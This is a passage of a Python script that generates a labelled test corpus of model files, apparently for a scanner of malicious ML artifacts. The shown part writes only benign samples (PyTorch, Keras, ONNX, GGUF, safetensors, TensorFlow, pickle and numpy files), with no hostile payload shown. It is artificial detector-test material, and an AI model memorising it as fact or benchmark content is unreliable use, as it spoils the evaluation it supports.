            add("benign", f"torch/{tag}-legacy.pt", buf.getvalue(), f"torch-legacy-{tag}",
                ("pytorch-legacy", "pickle"))  # fmt: skip
        buf = io.BytesIO()
        torch.save(net.state_dict(), buf)
        tgz = gzip.compress(_tar([("model/weights.pt", buf.getvalue())]))
        tgz_needs = ("compressed", "tar", "zip", "pickle")
        add("benign", "torch/checkpoint.tar.gz", tgz, "torch-zip-in-tar-gz", tgz_needs)
    except ImportError:
        pass
    add("benign", "keras/dense.keras", _keras_zip(_sequential([_dense("a", 8), _dense("b", 2)])),
        "keras-dense", ("zip", "config"))  # fmt: skip
    add("benign", "keras/config.json",
        json.dumps(_sequential([_dense("a", 8), _dense("b", 2)])).encode(), "keras-config-json",
        ("config",))  # fmt: skip
    try:
        import h5py

        buf = io.BytesIO()
        with h5py.File(buf, "w") as h5:
            cfg = {"class_name": "Sequential", "config": {"name": "s", "layers": [_dense("d", 4)]}}
            h5.attrs["model_config"] = json.dumps(cfg)
            h5.attrs["keras_version"] = "2.15.0"
            h5.create_dataset("model_weights/d/kernel", data=[[1.0, 2.0]])
        add("benign", "keras/dense.h5", buf.getvalue(), "h5-keras-dense", ("hdf5",))
    except ImportError:
        pass
    try:
        from onnx import TensorProto, helper

        node = helper.make_node("Relu", ["x"], ["y"])
        init = helper.make_tensor("w", TensorProto.FLOAT, [2], [1.0, 2.0])
        graph = helper.make_graph(
            [node, helper.make_node("Add", ["y", "w"], ["z"])], "g",
            [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
            [helper.make_tensor_value_info("z", TensorProto.FLOAT, [2])],
            initializer=[init],
        )  # fmt: skip
        model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
        add("benign", "onnx/relu-add.onnx", model.SerializeToString(), "onnx-small", ("onnx",))
    except ImportError:
        pass
    try:
        import gguf

        template = (
            "{% for message in messages %}<|{{ message['role'] }}|>\n{{ message['content'] }}"
            "{% endfor %}{% if add_generation_prompt %}<|assistant|>\n{% endif %}"
        )
        add("benign", "gguf/tiny.gguf", _gguf_bytes(gguf, template), "gguf-chat-template",
            ("gguf",))  # fmt: skip
    except ImportError:
        pass
    try:
        import numpy as np
        from safetensors.numpy import save

        blob = save({"w": np.ones((4, 4), dtype=np.float32), "b": np.zeros(4, dtype=np.float16)})
        add("benign", "safetensors/model.safetensors", blob, "safetensors", ("safetensors",))
    except ImportError:
        pass
    add("benign", "config/hydra-adam.yaml",
        b"optimizer:\n  _target_: torch.optim.Adam\n  lr: 0.001\n", "hydra-allowlisted-target",
        ("config",))  # fmt: skip
    pb = _tf_saved_model([("x", "Placeholder"), ("w", "Const"), ("y", "MatMul")])
    add("benign", "tensorflow/ordinary/saved_model.pb", pb, "tf-savedmodel-ordinary",
        ("tensorflow",))  # fmt: skip
    add("benign", "archive/arrays.tar.gz",
        gzip.compress(_tar([("a.pkl", pickle.dumps([1, 2, 3], protocol=2))])),
        "tar-gz-plain-pickle", ("compressed", "tar", "pickle"))  # fmt: skip
    add("benign", "plain/list-p0.pkl", pickle.dumps({"a": [1, 2.5, "x"]}, protocol=0),
        "pickle-proto0-dict")  # fmt: skip
    try:
        import numpy as np

        buf = io.BytesIO()
        np.save(buf, np.array([1, "label", 2.5, None], dtype=object), allow_pickle=True)
        add("benign", "numpy/object-plain.npy", buf.getvalue(), "npy-object-plain-values",
            ("numpy", "pickle"))  # fmt: skip
        buf = io.BytesIO()
        np.save(buf, np.linspace(0, 1, 500))
        add("benign", "numpy/array.npy.gz", gzip.compress(buf.getvalue()), "npy-gzip",
            ("compressed", "numpy"))  # fmt: skip
    except ImportError:
        pass


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print("usage: corpus.py OUTDIR", file=sys.stderr)
        return 2
    samples = build_corpus(Path(argv[0]))
    mal = sum(s.label == "malicious" for s in samples)
    print(f"wrote {len(samples)} files: {mal} malicious, {len(samples) - mal} benign")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
